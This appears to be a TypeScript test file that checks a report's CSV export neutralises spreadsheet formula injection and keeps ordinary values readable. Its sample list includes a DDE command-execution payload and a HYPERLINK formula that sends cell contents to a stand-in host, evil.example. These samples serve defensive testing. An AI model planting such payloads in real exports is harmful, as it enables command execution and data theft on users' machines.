/** Tests for the report's CSV files: fields, and that a spreadsheet calculates nothing that people wrote. */
import { strFromU8, unzipSync } from 'fflate'
import { expect, test } from 'vitest'
import { collectReport } from '../../protocol/report/report.ts'
import type { Column } from '../../protocol/report/table.ts'
import { hostileStrings } from '../../tests/support/hostile.ts'
import { toldTalk } from '../../tests/support/told-talk.ts'
import { reportZip, tableCsv } from './report-csv.ts'

const TEXT: Column = { key: 'Text', kind: 'text' }
const lineOf = (text: string): string =>
  tableCsv({ columns: [TEXT], rows: [[text]] }).split('"Text"\r\n')[1] ?? ''

/** The fields of a CSV text as a spreadsheet with this separator reads them: quotes count only at a field's start. */
function fieldsOf(csv: string, separator: string): string[] {
  const fields: string[] = []
  let field = ''
  for (let i = 0; i < csv.length;) {
    if (field === '' && csv[i] === '"') {
      const end = /^"(?:[^"]|"")*"/.exec(csv.slice(i))?.[0] ?? csv.slice(i)
      field += end.slice(1, -1).replaceAll('""', '"')
      i += end.length
      // What follows the closing quote belongs to the field.
      if (i < csv.length && csv[i] !== separator && csv[i] !== '\r') field += csv[i++]
      continue
    }
    if (csv[i] === separator || csv[i] === '\r' || csv[i] === '\n') {
      fields.push(field)
      field = ''
      i += 1
    } else field += csv[i++]
  }
  return fields
}

const FORMULAS = [
  '=1+1',
  '+1',
  '-1',
  '@SUM(A1)',
  '＝1+1',
  ' =1+1',
  '\t=1+1',
  '\u200b=1+1',
  '%0A=1',
  'a;=1+1;b',
  'a\t=1+1',
  'a\n=1+1',
  'a";=1+1;"',
  '=cmd|" /C calc"!A0',
  '=HYPERLINK("http://evil.example?"&A1,"x")',
]

test.each(FORMULAS)('[W5] %j is no formula in a spreadsheet, whatever separates its fields', (text) => {
  const csv = tableCsv({ columns: [TEXT], rows: [[text]] })
  for (const separator of [',', ';', '\t'])
    for (const field of fieldsOf(csv, separator)) expect(field).not.toMatch(/^[\s\p{Cf}"]*[=+\-@＝＋－＠%]/u)
})

test('[W5] no hostile text starts a formula or leaves its field', () => {
  for (const text of hostileStrings()) {
    const [line, ...others] = [lineOf(text)]
    expect(others).toEqual([])
    expect(line).toMatch(/^"(?:[^"]|"")*"\r\n$/)
    expect(line).not.toMatch(/^"[\s\p{Cf}]*[=+\-@]/u)
  }
})

test('[W5] ordinary text, numbers, times and durations stay readable', () => {
  const columns: Column[] = [
    TEXT,
    ...(['count', 'time', 'duration', 'duration'] as const).map((kind) => ({ key: kind, kind })),
  ]
  const at = new Date(2026, 10, 28, 15, 4, 5).getTime()
  const csv = tableCsv({
    columns,
    rows: [
      ['He said "no", twice', 12, at, 247_000, 3_847_000],
      ['', null, null, null, null],
    ],
  })
  expect(csv).toBe(
    '\uFEFF"Text","Count","Time","duration","duration"\r\n' +
      '"He said ""no"", twice",12,"2026-11-28 15:04:05","0:04:07","1:04:07"\r\n' +
      '"",,,,\r\n',
  )
  expect(lineOf('well-known; x + y')).toBe('"well-known; x + y"\r\n')
})

test('[W5] the ZIP has one file for each table', () => {
  const collected = collectReport()
  for (const entry of toldTalk()) collected.add(entry)
  const plan = { title: 'A', author: '', language: 'en', durationMinutes: 0, timings: new Map() }
  const files = unzipSync(reportZip(collected.make(plan)))
  expect(Object.keys(files).toSorted()).toEqual([
    'chat.csv',
    'leaderboard.csv',
    'polls.csv',
    'presence.csv',
    'questions.csv',
    'quiz.csv',
    'slides.csv',
  ])
  expect(strFromU8(files['chat.csv']!)).toContain(`"guest 2",,"'=1+1"`)
})
